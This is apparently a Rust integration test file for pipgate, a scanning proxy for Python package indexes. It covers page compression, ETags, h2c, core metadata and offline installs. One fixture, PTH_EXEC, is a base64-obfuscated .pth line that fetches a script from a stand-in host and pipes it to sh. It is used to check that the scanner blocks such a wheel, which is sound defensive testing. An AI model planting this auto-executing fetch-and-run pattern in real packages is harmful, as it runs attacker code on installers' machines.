//! Index pages answered from memory: compressed as the client asks (never a file or its
//! `.metadata`), revalidated to 304 from the cached ETag, re-rendered when a verdict
//! changes what they list, served over h2c; and PEP 658 metadata from what pipgate
//! extracted, so a resolve by real pip and uv downloads no wheel it does not install.

mod common;
use common::*;

/// These tests are about pages kept in memory: pre-scan (which changes listings on its own,
/// between two requests) is switched off so each listing changes only when the test says.
fn start_quiet(upstream: &str, policy: Option<&str>) -> Pipgate {
    Pipgate::start_args(upstream, policy, &["--prescan", "off"])
}
use std::io::Read;

const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";

fn repo_policy() -> String {
    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
}

fn get(url: &str, headers: &[(&str, &str)]) -> reqwest::blocking::Response {
    let mut req = http().get(url);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    req.send().unwrap()
}

fn header(r: &reqwest::blocking::Response, name: &str) -> String {
    r.headers().get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default()
}

/// The body as sent, decoded by its `Content-Encoding` (the test client decodes nothing itself).
fn decoded(r: reqwest::blocking::Response) -> (String, Vec<u8>) {
    let coding = header(&r, "content-encoding");
    let raw = r.bytes().unwrap().to_vec();
    let plain = match coding.as_str() {
        "" => raw,
        "gzip" => {
            let mut out = Vec::new();
            flate2::read::GzDecoder::new(&raw[..]).read_to_end(&mut out).unwrap();
            out
        }
        "zstd" => zstd::decode_all(&raw[..]).unwrap(),
        other => panic!("unexpected content-encoding {other:?}"),
    };
    (coding, plain)
}

/// A project with enough versions that its page is worth compressing.
fn many_versions(idx: &FakeIndex, project: &str) {
    for minor in 0..12 {
        idx.add_dist(project, wheel(project, &format!("1.{minor}"), &[], &[]));
    }
}

#[test]
fn pages_are_compressed_as_the_client_asks_and_files_never_are() {
    let idx = FakeIndex::start(Format::Json);
    many_versions(&idx, "demo-z");
    let gate = start_quiet(&idx.url(), None);
    let page = format!("{}demo-z/", gate.url);
    for (format, accept) in [("json", "application/vnd.pypi.simple.v1+json"), ("html", "text/html")] {
        let plain = get(&page, &[("accept", accept)]);
        assert_eq!(plain.status(), 200, "{format}");
        let plain_etag = header(&plain, "etag");
        let (_, plain_body) = decoded(plain);
        let cases = [
            ("no Accept-Encoding", None, ""),
            ("pip's", Some("gzip, deflate"), "gzip"),
            ("uv's", Some("gzip, deflate, zstd"), "zstd"),
            ("identity only", Some("identity"), ""),
            ("zstd refused", Some("zstd;q=0, gzip"), "gzip"),
        ];
        let mut etags = std::collections::BTreeMap::new();
        for (case, offer, want) in cases {
            let mut headers = vec![("accept", accept)];
            headers.extend(offer.map(|o| ("accept-encoding", o)));
            let r = get(&page, &headers);
            assert_eq!(r.status(), 200, "{format} {case}");
            let vary = header(&r, "vary").to_ascii_lowercase();
            assert!(vary.contains("accept") && vary.contains("accept-encoding"), "{format} {case}: vary {vary}");
            let etag = header(&r, "etag");
            let length: usize = header(&r, "content-length").parse().unwrap();
            let (coding, body) = decoded_with_length(r, length);
            assert_eq!(coding, want, "{format} {case}: content-encoding");
            assert_eq!(body, plain_body, "{format} {case}: the same page once decoded");
            if want.is_empty() {
                assert_eq!(etag, plain_etag, "{format} {case}");
            }
            assert!(etags.insert(etag.clone(), want).is_none_or(|w| w == want), "{format} {case}: etag {etag} reused");
            // The cached ETag of this representation answers 304, without a body.
            let mut again = headers.clone();
            again.push(("if-none-match", &etag));
            let r = get(&page, &again);
            assert_eq!(r.status(), 304, "{format} {case}: revalidation");
            assert_eq!(header(&r, "etag"), etag, "{format} {case}: 304 names the representation");
        }
        assert_eq!(etags.len(), 3, "{format}: one ETag per coding: {etags:?}");
    }

    // Files and their core metadata: byte for byte, whatever the client offers.
    let dist = wheel("demo-z", "1.11", &[], &[]);
    let listed: serde_json::Value = get(&page, &[("accept", "application/vnd.pypi.simple.v1+json")]).json().unwrap();
    let href = listed["files"].as_array().unwrap().iter().find(|f| f["filename"] == dist.filename).unwrap()["url"]
        .as_str()
        .unwrap()
        .to_string();
    let file_url = url::Url::parse(&page).unwrap().join(&href).unwrap().to_string();
    for offer in ["gzip, deflate", "gzip, deflate, zstd", "*"] {
        let r = get(&file_url, &[("accept-encoding", offer)]);
        assert_eq!(r.status(), 200, "file, {offer}");
        assert_eq!(header(&r, "content-encoding"), "", "file, {offer}: never re-encoded");
        assert_eq!(sha256_hex(&r.bytes().unwrap()), sha256_hex(&dist.bytes), "file, {offer}: the same bytes");
        let r = get(&format!("{file_url}.metadata"), &[("accept-encoding", offer)]);
        assert_eq!(r.status(), 200, ".metadata, {offer}");
        assert_eq!(header(&r, "content-encoding"), "", ".metadata, {offer}: never re-encoded");
        assert_eq!(r.bytes().unwrap().to_vec(), dist.metadata.clone().unwrap(), ".metadata, {offer}: exact bytes");
    }
}

/// [`decoded`], checking first that `Content-Length` is the length of the bytes sent.
fn decoded_with_length(r: reqwest::blocking::Response, length: usize) -> (String, Vec<u8>) {
    let coding = header(&r, "content-encoding");
    let raw = r.bytes().unwrap();
    assert_eq!(raw.len(), length, "content-length is the encoded length");
    let plain = match coding.as_str() {
        "" => raw.to_vec(),
        "gzip" => {
            let mut out = Vec::new();
            flate2::read::GzDecoder::new(&raw[..]).read_to_end(&mut out).unwrap();
            out
        }
        "zstd" => zstd::decode_all(&raw[..]).unwrap(),
        other => panic!("unexpected content-encoding {other:?}"),
    };
    (coding, plain)
}

#[test]
fn a_page_served_from_memory_follows_a_new_verdict_at_once() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("demo-pg", wheel("demo-pg", "1.0", &[], &[]));
    let evil = wheel("demo-pg", "2.0", &[], &[("demo_pg_init.pth", PTH_EXEC)]);
    let evil_name = evil.filename.clone();
    idx.add_dist("demo-pg", evil);
    let gate = start_quiet(&idx.url(), Some(&repo_policy()));
    let page = format!("{}demo-pg/", gate.url);
    let json = [("accept", "application/vnd.pypi.simple.v1+json")];
    let first = get(&page, &json);
    let etag = header(&first, "etag");
    let before: serde_json::Value = first.json().unwrap();
    let entry =
        |v: &serde_json::Value| v["files"].as_array().unwrap().iter().find(|f| f["filename"] == evil_name).cloned();
    assert_eq!(entry(&before).unwrap()["yanked"], false, "not scanned yet: listed as upstream lists it");
    assert_eq!(header(&get(&page, &json), "etag"), etag, "unchanged state: the same page");

    // The scan blocks 2.0 when it is first downloaded ...
    let href = entry(&before).unwrap()["url"].as_str().unwrap().to_string();
    let file_url = url::Url::parse(&page).unwrap().join(&href).unwrap().to_string();
    assert_eq!(get(&file_url, &[]).status(), 403, "the scan blocks {evil_name}");

    // ... and the very next page request shows it (no stale page from memory).
    let mut revalidate = json.to_vec();
    revalidate.push(("if-none-match", &etag));
    let after = get(&page, &revalidate);
    assert_eq!(after.status(), 200, "the old ETag no longer matches");
    assert_ne!(header(&after, "etag"), etag);
    let after: serde_json::Value = after.json().unwrap();
    match entry(&after) {
        None => {}
        Some(f) => assert!(f["yanked"].as_str().is_some_and(|r| r.contains("blocked by pipgate")), "{f}"),
    }
}

#[test]
fn h2c_by_prior_knowledge_serves_pages_and_files_and_is_logged() {
    let idx = FakeIndex::start(Format::Json);
    many_versions(&idx, "demo-h2");
    let gate = start_quiet(&idx.url(), None);
    let client = reqwest::blocking::Client::builder().http2_prior_knowledge().no_proxy().build().unwrap();
    let page = format!("{}demo-h2/", gate.url);
    let r = client.get(&page).header("accept", "application/vnd.pypi.simple.v1+json").send().unwrap();
    assert_eq!((r.status().as_u16(), r.version()), (200, reqwest::Version::HTTP_2));
    let listed: serde_json::Value = r.json().unwrap();
    let href = listed["files"][0]["url"].as_str().unwrap().to_string();
    let file_url = url::Url::parse(&page).unwrap().join(&href).unwrap().to_string();
    let r = client.get(&file_url).send().unwrap();
    assert_eq!((r.status().as_u16(), r.version()), (200, reqwest::Version::HTTP_2), "a file over h2");
    // HTTP/1.1 on the same listener still works.
    assert_eq!(get(&page, &[]).version(), reqwest::Version::HTTP_11);
    let log = gate.log();
    assert!(log.contains("proto=HTTP/2.0"), "the access log names the protocol: {log}");
    assert!(log.contains("proto=HTTP/1.1"), "{log}");
}

/// The wheels the access log shows downloaded (not their `.metadata`), by filename.
fn wheels_fetched(log: &str) -> Vec<String> {
    log.lines()
        .filter(|l| l.contains("request") && l.contains("/files/"))
        .filter_map(|l| l.split("path=").nth(1)?.split_whitespace().next().map(str::to_string))
        .filter(|p| p.ends_with(".whl"))
        .map(|p| p.rsplit('/').next().unwrap_or_default().to_string())
        .collect()
}

/// One client run in a fresh venv.
type Resolve<'a> = dyn Fn(&Venv) -> std::process::Output + 'a;

#[test]
fn a_second_resolve_reads_metadata_from_the_store_and_downloads_no_wheel_it_does_not_install() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("demo-app", wheel("demo-app", "1.0", &["demo-lib"], &[]));
    idx.add_dist("demo-lib", wheel("demo-lib", "1.0", &[], &[]));
    // The newest demo-lib cannot be installed (its dependency exists nowhere): a resolver
    // tries it, backtracks, and installs 1.0.
    idx.add_dist("demo-lib", wheel("demo-lib", "2.0", &["demo-nowhere"], &[]));
    // The upstream advertises no core metadata: only pipgate's own extraction can.
    assert!(!idx.state.lock().unwrap().advertise_metadata);
    let gate = start_quiet(&idx.url(), None);
    let out = Venv::new().pip(&["install", "--index-url", &gate.url, "demo-app"]);
    assert!(out.status.success(), "{}", show(&out));
    let mut first = wheels_fetched(&gate.log());
    first.sort();
    let all = ["demo_app-1.0-py3-none-any.whl", "demo_lib-1.0-py3-none-any.whl", "demo_lib-2.0-py3-none-any.whl"];
    assert_eq!(first, all, "without metadata, the first install downloads the wheel it backtracks from too");

    let installed = ["demo_app-1.0-py3-none-any.whl", "demo_lib-1.0-py3-none-any.whl"];
    let cases: [(&str, &Resolve<'_>, &[&str]); 3] = [
        ("pip install", &|v: &Venv| v.pip(&["install", "--index-url", &gate.url, "demo-app"]), &installed),
        ("uv pip install", &|v: &Venv| v.uv_pip(&["install", "--index-url", &gate.url, "demo-app"]), &installed),
        (
            "uv pip compile",
            &|v: &Venv| {
                let req = v.path().join("requirements.in");
                std::fs::write(&req, "demo-app\n").unwrap();
                v.uv_pip(&["compile", "--index-url", &gate.url, req.to_str().unwrap()])
            },
            &[],
        ),
    ];
    for (case, resolve, want) in cases {
        let before = gate.log().len();
        let out = resolve(&Venv::new());
        assert!(out.status.success(), "{case}: {}", show(&out));
        let log = gate.log();
        let new = &log[before..];
        assert!(new.contains("demo_lib-2.0-py3-none-any.whl.metadata"), "{case}: read 2.0's core metadata: {new}");
        let mut fetched = wheels_fetched(new);
        fetched.sort();
        fetched.dedup();
        assert_eq!(fetched, want, "{case}: wheels downloaded are the ones installed: {}", show(&out));
    }
}

#[test]
fn upload_time_passes_through_unchanged_for_client_cooldowns() {
    let idx = FakeIndex::start(Format::Json);
    let times = [("1.0", "2020-01-02T03:04:05Z"), ("2.0", "2025-06-01T00:00:00.123456Z")];
    for (version, t) in times {
        let mut f = FakeFile::new(wheel("demo-t", version, &[], &[]));
        f.upload_time = Some(t.into());
        idx.add("demo-t", f);
    }
    let gate = start_quiet(&idx.url(), None);
    let page: serde_json::Value =
        get(&format!("{}demo-t/", gate.url), &[("accept", "application/vnd.pypi.simple.v1+json")]).json().unwrap();
    for (version, t) in times {
        let f = page["files"].as_array().unwrap().iter().find(|f| f["filename"].as_str().unwrap().contains(version));
        assert_eq!(f.unwrap()["upload-time"], t, "{version}: upload-time as the upstream sent it");
    }
    // uv's exclude-newer reads it: a cut-off between the two releases resolves the older one.
    let cases = [("no cut-off", None, "demo-t==2.0"), ("cut-off in 2022", Some("2022-01-01T00:00:00Z"), "demo-t==1.0")];
    for (case, cutoff, want) in cases {
        let venv = Venv::new();
        let req = venv.path().join("requirements.in");
        std::fs::write(&req, "demo-t\n").unwrap();
        let mut args = vec!["compile", "--index-url", &gate.url, req.to_str().unwrap()];
        args.extend(cutoff.iter().flat_map(|c| ["--exclude-newer", *c]));
        let out = venv.uv_pip(&args);
        assert!(out.status.success(), "{case}: {}", show(&out));
        assert!(String::from_utf8_lossy(&out.stdout).contains(want), "{case}: {}", show(&out));
    }
    // pip reads it with --uploaded-prior-to (pip 26 and later); older pips have no such option.
    let venv = Venv::new();
    let help = String::from_utf8_lossy(&venv.pip(&["install", "--help"]).stdout).to_string();
    if help.contains("--uploaded-prior-to") {
        let out = venv.pip(&[
            "install",
            "--dry-run",
            "--index-url",
            &gate.url,
            "--uploaded-prior-to",
            "2022-01-01T00:00:00Z",
            "demo-t",
        ]);
        assert!(String::from_utf8_lossy(&out.stdout).contains("demo-t-1.0"), "pip: {}", show(&out));
    } else {
        eprintln!("this pip has no --uploaded-prior-to: its cooldown is not exercised");
    }
}

#[test]
fn after_a_restart_with_the_upstream_down_pip_and_uv_install_from_the_kept_pages_and_core_metadata() {
    let mut idx = FakeIndex::start(Format::Json);
    idx.add_dist("demo-app", wheel("demo-app", "1.0", &["demo-lib"], &[]));
    idx.add_dist("demo-lib", wheel("demo-lib", "1.0", &[], &[]));
    let dir = tempfile::tempdir().unwrap();
    let (policy, data) = (dir.path().join("policy.yaml"), dir.path().join("data"));
    std::fs::write(&policy, "# empty test policy\n").unwrap();
    let gate = Pipgate::start_with(&idx.url(), &policy, &data);
    let out = Venv::new().uv_pip(&["install", "--index-url", &gate.url, "demo-app"]);
    assert!(out.status.success(), "{}", show(&out));
    drop(gate);
    // A restart: pages and core metadata are no longer in memory, and the upstream is gone.
    idx.stop();
    let gate = Pipgate::start_with(&idx.url(), &policy, &data);
    let cases: [(&str, &Resolve<'_>); 2] = [
        ("pip install", &|v: &Venv| v.pip(&["install", "--index-url", &gate.url, "demo-app"])),
        ("uv pip install", &|v: &Venv| v.uv_pip(&["install", "--index-url", &gate.url, "demo-app"])),
    ];
    for (case, install) in cases {
        let before = gate.log().len();
        let venv = Venv::new();
        let out = install(&venv);
        assert!(out.status.success(), "{case}: {}\n{}", show(&out), gate.log());
        assert_eq!(venv.run("import demo_app, demo_lib; print(demo_lib.VERSION)"), "1.0", "{case}");
        let log = gate.log();
        let new = &log[before..];
        assert!(new.contains("serving the copy cached"), "{case}: pages come from the kept copies: {new}");
        for wheel in ["demo_app-1.0-py3-none-any.whl", "demo_lib-1.0-py3-none-any.whl"] {
            let asked = new.lines().find(|l| l.contains(&format!("{wheel}.metadata ")));
            assert!(asked.is_some_and(|l| l.contains("status=200")), "{case}: {wheel}'s core metadata served: {new}");
        }
    }
}
